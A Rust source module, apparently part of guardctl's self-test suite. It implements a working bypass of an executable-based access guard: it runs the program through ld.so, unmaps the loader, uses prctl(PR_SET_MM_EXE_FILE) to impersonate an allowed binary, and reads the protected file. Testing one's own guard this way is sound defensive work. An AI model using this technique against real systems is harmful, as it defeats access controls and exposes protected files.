//! Taking the allowed binary's identity: guard knows a caller by its
//! executable (`mm->exe_file`), and `prctl(PR_SET_MM, PR_SET_MM_EXE_FILE)`
//! lets root name another one, once the process no longer maps its own.
//! The technique runs guardctl through the dynamic loader (so the
//! executable is ld.so, which the program does not need once loaded),
//! unmaps ld.so, names the allowed binary as its executable and reads the
//! protected file.

use std::convert::Infallible;
use std::ffi::CString;
use std::os::fd::IntoRawFd;
use std::path::Path;

use anyhow::{Context, Result};

use super::sys;
use super::{Attempt, Target};

pub fn technique(t: &Target) -> Result<Attempt> {
    let allowed = t.accomplice_exe.as_ref().context("needs --accomplice")?;
    let guardctl = std::env::current_exe().context("finding guardctl's own path")?;
    let (bytes, pid, status) = sys::run_program(
        sys::dynamic_loader()?,
        &[
            guardctl.as_os_str(),
            "selftest".as_ref(),
            "exe-switch".as_ref(),
            allowed.as_os_str(),
            t.file.as_os_str(),
        ],
    )?;
    Ok(Attempt::from_bytes(
        bytes,
        &format!("ld.so guardctl, then PR_SET_MM_EXE_FILE ALLOWED ({status})"),
    )
    .with_pid(pid))
}

/// The helper process: everything is prepared first, because once ld.so is
/// unmapped nothing may call into it or allocate (libc's allocator reads
/// ld.so's data); from there on only system calls on those buffers. Exit
/// status 3: the executable could not be replaced; 4: the file could not be
/// opened; 5: not read.
pub fn take_over_and_print(allowed: &Path, file: &Path) -> Result<Infallible> {
    let exe = std::fs::read_link("/proc/self/exe").context("reading /proc/self/exe")?;
    let maps = std::fs::read_to_string("/proc/self/maps").context("reading /proc/self/maps")?;
    let own: Vec<(usize, usize)> = maps
        .lines()
        .filter(|line| line.split_whitespace().nth(5) == Some(exe.to_str().unwrap_or("")))
        .filter_map(|line| {
            let (start, end) = line.split_whitespace().next()?.split_once('-')?;
            Some((
                usize::from_str_radix(start, 16).ok()?,
                usize::from_str_radix(end, 16).ok()?,
            ))
        })
        .collect();
    let allowed_fd = std::fs::File::open(allowed)
        .with_context(|| format!("opening {}", allowed.display()))?
        .into_raw_fd();
    let path = sys::cstring(file)?;
    let mut buffer = vec![0u8; 64 * 1024];
    // SAFETY: unmaps only ld.so's file mappings, which this program no
    // longer uses (it is bound at load: BIND_NOW); what follows calls only
    // libc's syscall() on memory allocated above.
    unsafe { switch_and_print(&own, allowed_fd, &path, &mut buffer) }
}

unsafe fn switch_and_print(
    own: &[(usize, usize)],
    allowed_fd: i32,
    path: &CString,
    buffer: &mut [u8],
) -> ! {
    const PR_SET_MM: libc::c_long = 35;
    const PR_SET_MM_EXE_FILE: libc::c_long = 13;
    for (start, end) in own {
        libc::syscall(libc::SYS_munmap, *start, end - start);
    }
    let switched = libc::syscall(
        libc::SYS_prctl,
        PR_SET_MM,
        PR_SET_MM_EXE_FILE,
        allowed_fd as libc::c_long,
        0 as libc::c_long,
        0 as libc::c_long,
    );
    if switched != 0 {
        exit_saying(3, b"prctl(PR_SET_MM_EXE_FILE) refused\n");
    }
    let fd = libc::syscall(
        libc::SYS_openat,
        libc::AT_FDCWD,
        path.as_ptr(),
        libc::O_RDONLY,
    );
    if fd < 0 {
        exit_saying(4, b"open refused\n");
    }
    loop {
        let n = libc::syscall(libc::SYS_read, fd, buffer.as_mut_ptr(), buffer.len());
        if n == 0 {
            exit_saying(0, b"");
        }
        if n < 0 {
            exit_saying(5, b"read refused\n");
        }
        libc::syscall(libc::SYS_write, 1, buffer.as_ptr(), n);
    }
}

unsafe fn exit_saying(code: i32, message: &[u8]) -> ! {
    libc::syscall(libc::SYS_write, 2, message.as_ptr(), message.len());
    libc::syscall(libc::SYS_exit_group, code);
    unreachable!("exit_group returned")
}
